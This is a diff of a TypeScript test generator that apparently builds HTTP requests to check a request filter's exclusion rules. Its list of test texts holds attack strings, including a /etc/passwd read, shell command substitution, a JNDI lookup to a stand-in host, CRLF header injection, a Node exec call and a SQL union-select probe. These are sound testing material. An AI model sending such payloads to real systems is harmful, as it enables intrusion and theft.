@@ -1,14 +1,14 @@
 /** One request as it goes over the wire, by a name people understand. */
 interface Named {
   readonly name: string
+  readonly method: string
+  /** As sent, with query. */
+  readonly target: string
   readonly wire: string
 }
 
 /** A generated request, and others beside it that an exclusion for it might let in. */
 export interface Drawn extends Named {
-  readonly method: string
-  /** As sent, with query. */
-  readonly target: string
   readonly probes: readonly Named[]
 }
 
@@ -43,14 +43,29 @@ const TEXTS = [
   "run ; cat /etc/passwd | grep root",
   "ping `id` and $(whoami)",
   "class java.lang.Runtime and ProcessBuilder",
-  "${jndi:ldap://a.example/b}",
+  `${"$"}{jndi:ldap://a.example/b}`,
   "http://127.0.0.1/admin?x=1",
   "a\r\nSet-Cookie: b=c",
   "require('child_process').exec('ls')",
   "nothing of note",
 ] as const
 
-const NAMES = ["comment", "user[name]", "a.b", "two words", "a,b", "a;b", "it's", "A|b", "$x", "50%", 'x"y', "naïve", "a:b", "-"] as const
+const NAMES = [
+  "comment",
+  "user[name]",
+  "a.b",
+  "two words",
+  "a,b",
+  "a;b",
+  "it's",
+  "A|b",
+  "$x",
+  "50%",
+  'x"y',
+  "naïve",
+  "a:b",
+  "-",
+] as const
 const PATHS = ["app", "app/edit", "a%20b", "caf%C3%A9", "it's", "x;v=1", "a+b", "~me", "a$b", "(x)"] as const
 
 /** Ways to send a text to a path. `name` is the field's. */
@@ -67,8 +82,10 @@ const FORM = "Content-Type: application/x-www-form-urlencoded"
 const SENDERS: readonly [Sender, ...Sender[]] = [
   (path, name, text) => get(`${path}?${encodeURIComponent(name)}=${encodeURIComponent(text)}`),
   (path, name, text) => post(path, [FORM], `${encodeURIComponent(name)}=${encodeURIComponent(text)}&id=1`),
-  (path, name, text) => post(path, ["Content-Type: application/json"], JSON.stringify({ doc: { [name]: text }, id: 1 })),
-  (path, name, text) => post(path, ["Content-Type: application/json"], JSON.stringify([{ [name]: text }, { [name]: text }])),
+  (path, name, text) =>
+    post(path, ["Content-Type: application/json"], JSON.stringify({ doc: { [name]: text }, id: 1 })),
+  (path, name, text) =>
+    post(path, ["Content-Type: application/json"], JSON.stringify([{ [name]: text }, { [name]: text }])),
   (path, name, text) => multipart(path, `name="${name.replaceAll('"', "%22")}"`, text),
   (path, name, text) => multipart(path, `name="file"; filename="${name.replaceAll('"', "%22")}.php.txt"`, text),
   (path, _, text) => get(path, [`Cookie: note=${text.replaceAll(/[\r\n;]/g, " ")}`]),
@@ -76,9 +93,15 @@ const SENDERS: readonly [Sender, ...Sender[]] = [
   (path, _, text) => get(path, [`User-Agent: ${text.replaceAll(/[\r\n]/g, " ")}`]),
   (path, _, text) => get(`${path}?${encodeURIComponent(text)}=1`),
   (path, name, text) =>
-    get(`${path}?${encodeURIComponent(name)}=${encodeURIComponent(text)}&${encodeURIComponent(name)}=${encodeURIComponent(text)}`),
-  (path, name, text) => post(path, ["Content-Type: text/xml"], `<a><b title="t">${xml(text)}</b><c>${xml(name)}</c></a>`),
-  (path, name, text) => ({ ...post(path, [FORM], `${encodeURIComponent(name)}=${encodeURIComponent(text)}`), method: "PUT" }),
+    get(
+      `${path}?${encodeURIComponent(name)}=${encodeURIComponent(text)}&${encodeURIComponent(name)}=${encodeURIComponent(text)}`,
+    ),
+  (path, name, text) =>
+    post(path, ["Content-Type: text/xml"], `<a><b title="t">${xml(text)}</b><c>${xml(name)}</c></a>`),
+  (path, name, text) => ({
+    ...post(path, [FORM], `${encodeURIComponent(name)}=${encodeURIComponent(text)}`),
+    method: "PUT",
+  }),
 ]
 
 /** Requests that are refused for what they are and not for a text in them. */
@@ -114,13 +137,18 @@ export function drawCase(draw: Draw, number: number): Drawn {
     named("an attack beside it", get(`${path}?q=${encodeURIComponent("1' union select 1,2 from users-- -")}`)),
     named("another method", { ...sending, method: "DELETE" }),
   ]
-  const { method, target } = sending
-  return { ...named(`${method} ${target} ${sending.headers.join(" ")} ${sending.body}`, sending), method, target, probes }
+  const { method, target, headers, body } = sending
+  return { ...named(`${method} ${target} ${headers.join(" ")} ${body}`, sending), probes }
 }
 
 const get = (target: string, headers: readonly string[] = []): Sending => ({ method: "GET", target, headers, body: "" })
 
-const post = (target: string, headers: readonly string[], body: string): Sending => ({ method: "POST", target, headers, body })
+const post = (target: string, headers: readonly string[], body: string): Sending => ({
+  method: "POST",
+  target,
+  headers,
+  body,
+})
 
 function multipart(path: string, disposition: string, text: string): Sending {
   const body = `--b0undary\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${text}\r\n--b0undary--\r\n`
@@ -131,8 +159,10 @@ const xml = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("
 
 function named(name: string, { method, target, headers, body }: Sending): Named {
   const given = (field: string): boolean => headers.some((it) => it.toLowerCase().startsWith(`${field}:`))
-  const usual = ["Host: a.example", "User-Agent: Mozilla/5.0", "Accept: */*"].filter((it) => !given(it.split(":", 1)[0]?.toLowerCase() ?? ""))
+  const usual = ["Host: a.example", "User-Agent: Mozilla/5.0", "Accept: */*"].filter(
+    (it) => !given(it.split(":", 1)[0]?.toLowerCase() ?? ""),
+  )
   const length = body === "" ? [] : [`Content-Length: ${Buffer.byteLength(body)}`]
   const head = [`${method} ${target} HTTP/1.1`, ...usual, ...headers, ...length, "Connection: close"]
-  return { name, wire: `${head.join("\r\n")}\r\n\r\n${body}` }
+  return { name, method, target, wire: `${head.join("\r\n")}\r\n\r\n${body}` }
 }
